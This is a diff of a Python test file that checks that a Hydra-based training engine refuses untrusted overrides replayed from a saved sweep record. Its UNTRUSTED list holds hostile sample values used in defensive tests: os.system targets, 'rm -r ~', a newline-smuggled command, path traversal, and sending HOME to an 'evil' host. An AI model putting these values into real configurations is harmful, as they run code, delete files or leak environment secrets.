@@ -13,6 +13,7 @@ from typing import Any
 
 import pytest
 import torch
+from hydra import compose, initialize_config_dir
 from omegaconf import OmegaConf
 
 from engine.checkpoints import CheckpointError
@@ -21,7 +22,6 @@ from engine.config.instantiating import build_object
 from engine.config.own_packages import VARIABLE
 from engine.config.places import PLACES, place_of, resolve_target
 from engine.evaluation import evaluate
-from engine.sweeps.recorded_overrides import check_recorded
 from engine.sweeps.resuming import resumed_overrides
 from engine.trained_run import open_run
 from run_folders.sweep import Sweep
@@ -183,49 +183,94 @@ def test_nothing_is_built_from_the_record_of_a_sweep(
         assert f"{path}._target_ (the command line): received '{target}'" in errors
 
 
-@pytest.mark.parametrize(
-    "override",
-    [
-        "--config-dir=/tmp/evil",
-        "-cd=/tmp/evil",
-        "hydra.searchpath=[file:///tmp/evil]",
-        "hydra.sweeper._target_=os.system",
-        "+hydra.launcher={_target_: os.system}",
-        "hydra.callbacks.evil={_target_: os.system}",
-        "+hydra.job_logging.handlers.evil={(): os.system}",
-        "hydra/job_logging=evil",
-        "hydra.job.env_set.PATH=/tmp/evil",
-        "hydra.launcher.setup=[rm -r ~]",
-        "~hydra.callbacks",
-    ],
-)
-def test_the_record_of_a_sweep_sets_nothing_of_hydra_that_runs_code(
-    override: str, tmp_path: Path
+UNTRUSTED = [
+    "--config-dir=/tmp/evil",
+    "-cd=/tmp/evil",
+    "hydra.searchpath=[file:///tmp/evil]",
+    "hydra.sweeper._target_=os.system",
+    "hydra.sweeper={_target_: os.system}",
+    "hydra.sweeper.storage=mysql://evil/x",
+    "+hydra.launcher={_target_: os.system}",
+    "hydra.launcher={setup: [rm]}",
+    "hydra.launcher.setup=[rm -r ~]",
+    "hydra.launcher.srun_args=[--task-prolog=/tmp/x]",
+    "hydra.launcher.partition='x\ntouch y'",
+    "hydra.callbacks.evil={_target_: os.system}",
+    "+hydra.job_logging.handlers.evil={(): os.system}",
+    "hydra/job_logging=../evil",
+    "hydra.job.env_set.PATH=/tmp/evil",
+    "hydra.sweep.subdir=../../evil",
+    "~hydra.callbacks",
+    "experiment=../../../tmp/evil",
+    "+experiment=choice(a,../evil)",
+    "+experiment@hydra.callbacks.x=evil",
+    "+hydra/launcher@hydra.callbacks.x=basic",
+    "+logger.x.tracking_uri=http://evil/${oc.env:HOME}",
+    "+model.x=${oc.${model.pooling}:HOME}",
+    "+model.x=${${m}:HOME}",
+]
+TRUSTED = [
+    "seed=1,2",
+    "experiment=a,b",
+    "head=choice(linear,bigru)",
+    "monitor=val/loss",
+    "model.backbone=owner/name",
+    "model.num_classes=${data.num_classes}",
+    "data.files={train: a.csv, val: null, test: b.csv}",
+    "hydra/launcher=joblib",
+    "hydra/sweeper=optuna",
+    "hydra.launcher.n_jobs=2",
+    "hydra.launcher.gres=gpu:1",
+    "hydra.sweeper.n_trials=3",
+    "hydra.sweeper.space={model.lr: {type: float, low: 1e-4, high: 1e-1, log: true}}",
+]
+
+
+def test_the_record_of_a_sweep_sets_nothing_that_runs_code_or_reads_the_environment(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
+    """What is not taken is named, so that its owner can set it again."""
     sweep = Sweep(tmp_path)
-    sweep.begin(["seed=1,2", override])
-    with pytest.raises(SweepError, match=r"sweep\.json: .* not taken from a file"):
+    sweep.begin([*TRUSTED, *UNTRUSTED])
+    resumed = resumed_overrides([f"sweep.resume={tmp_path}"])
+    assert resumed == ["-m", *TRUSTED, f"hydra.sweep.dir={tmp_path}"]
+    errors = capsys.readouterr().err
+    for override in UNTRUSTED:
+        assert f"{override} is not taken from sweep.json" in errors
+
+
+@pytest.mark.parametrize("words", [3, [3], {"a": 1}, "seed=1"])
+def test_a_damaged_record_of_a_sweep_is_named(words: object, tmp_path: Path) -> None:
+    (tmp_path / "sweep.json").write_text(json.dumps({"id": "x", "words": words}))
+    with pytest.raises(SweepError, match=r"sweep\.json is damaged"):
         resumed_overrides([f"sweep.resume={tmp_path}"])
 
 
-def test_the_record_of_a_sweep_keeps_its_launcher_and_sweeper() -> None:
-    check_recorded(
-        ["hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "hydra.sweeper.n_trials=3"], "file"
-    )
+def test_a_config_cannot_allow_a_package(train: Train, tmp_path: Path) -> None:
+    file = tmp_path / "configs" / "experiment" / "evil.yaml"
+    file.parent.mkdir(parents=True)
+    file.write_text(f"# @package _global_\nhydra: {{job: {{env_set: {{{VARIABLE}: tests}}}}}}\n")
+    ended = train("experiment=evil")
+    assert ended.code == 1
+    assert f"a config cannot set {VARIABLE}" in ended.error
 
 
-def test_the_record_of_a_sweep_reads_no_environment_variable(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+def test_other_applications_of_hydra_are_left_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    sweep = Sweep(tmp_path)
-    sweep.begin(["seed=1", "+logger.x.tracking_uri=http://evil/${oc.env:HOME}"])
-    assert resumed_overrides([f"sweep.resume={tmp_path}"])[:2] == ["-m", "seed=1"]
-    assert "reads an environment variable" in capsys.readouterr().err
+    monkeypatch.setenv(VARIABLE, "no_such_package")
+    (tmp_path / "own.yaml").write_text("a: 1\n")
+    with initialize_config_dir(str(tmp_path), version_base="1.3"):
+        assert compose("own").a == 1
 
 
 def test_a_run_folder_reads_no_environment_variable(trained: Path, tmp_path: Path) -> None:
-    folder = changed(trained, tmp_path / "run", "model.pooling", "${oc.env:HOME}")
-    assert open_run(folder).cfg.model.pooling == "${oc.env:HOME}"
+    folder = Path(shutil.copytree(trained, tmp_path / "run"))
+    config = folder / "config.yaml"
+    text = config.read_text()
+    for value in ("${oc.env:HOME}", "\\${oc.env:HOME}", "\\\\${oc.env:HOME}"):
+        config.write_text(text + f"evil: '{value}'\n")
+        assert open_run(folder).cfg.evil == value
 
 
 RESERVED = {
